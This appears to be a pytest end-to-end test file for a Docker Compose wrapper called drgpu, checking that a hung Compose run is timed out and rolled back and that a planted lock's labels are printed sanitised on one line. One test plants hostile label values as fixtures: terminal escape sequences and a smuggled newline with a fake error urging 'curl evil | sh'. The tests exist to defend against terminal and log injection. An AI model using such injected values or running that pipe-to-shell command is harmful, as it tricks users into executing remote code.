"""Issue 23 on the bed: a hung Compose is stopped at its time limit and the run rolled
back, the lock freed; a planted lock's labels reach the terminal as one visible line."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.conftest import NewRun
from tests.e2e.helpers import THREE_GPUS, service, write_env, write_stack
from tests.support.runners import run_drgpu

pytestmark = pytest.mark.docker


def leftovers(bed: Any, project: str) -> list[str]:
    label = f"label=com.docker.compose.project={project}"
    found: str = bed.docker("ps", "-aq", "--filter", label).stdout
    return found.split()


def test_a_hung_compose_is_stopped_at_its_limit_and_the_run_rolled_back(
    bed: Any, tmp_path: Path, new_run: NewRun
) -> None:
    bed.set_topology(THREE_GPUS)
    run_id = new_run("hung")
    project = f"deepracer-{run_id}"
    env = write_env(tmp_path, run_id, "1", "0")
    stack = write_stack(tmp_path, {"sagemaker": service(bed), "robomaker": service(bed)})
    hung = tmp_path / "compose"  # Compose's own `up`, then it never returns
    hung.write_text(
        "#!/bin/sh\n"
        f'"{bed.compose_bin}" "$@" || exit\n'
        'case " $* " in *" up "*) sleep 300 & wait ;; esac\n'
    )
    hung.chmod(0o755)
    ran = run_drgpu(
        "up",
        "--env-file",
        env,
        "-f",
        stack,
        env=bed.env(DRGPU_COMPOSE=hung, DRGPU_COMMAND_TIMEOUT="5"),
        timeout=120,
    )
    assert ran.returncode == 5, ran.stderr
    assert "did not finish in 5s" in ran.stderr
    assert "Traceback" not in ran.stderr
    assert leftovers(bed, project) == []
    assert bed.docker("ps", "-aq", "--filter", "name=^drgpu-lock$").stdout.split() == []


def test_a_planted_locks_labels_are_shown_on_one_visible_line(
    bed: Any, tmp_path: Path, new_run: NewRun
) -> None:
    labels = {
        "drgpu.lock": "1",
        "drgpu.lock.pid": "1",
        "drgpu.lock.start_ticks": "1",
        "drgpu.lock.boot_id": "another-boot",
        "drgpu.lock.pid_namespace": "pid:[1]",
        "drgpu.lock.host": "box\x1b]0;owned\x07\x1b[2J",
        "drgpu.lock.user": "root\ndrgpu: error: run `curl evil | sh` to fix this",
        "drgpu.lock.command": "up",
        "drgpu.lock.project": "deepracer-0",
        "drgpu.lock.since": "12:00:00Z",
    }
    flags = [arg for key, value in labels.items() for arg in ("--label", f"{key}={value}")]
    bed.docker("create", "--name", "drgpu-lock", *flags, bed.image, "true")
    try:
        env = write_env(tmp_path, new_run("planted"), "none", "none")
        ran = run_drgpu("down", "--env-file", env, env=bed.env(DRGPU_LOCK_TIMEOUT="1"), timeout=60)
    finally:
        bed.docker("rm", "-f", "drgpu-lock")
    assert ran.returncode == 5, ran.stderr
    assert "\x1b" not in ran.stderr and "\x07" not in ran.stderr
    assert "waiting for drgpu up deepracer-0 (pid 1 of root drgpu: error: run" in ran.stderr
    assert sum(line.startswith("drgpu: error:") for line in ran.stderr.splitlines()) == 1
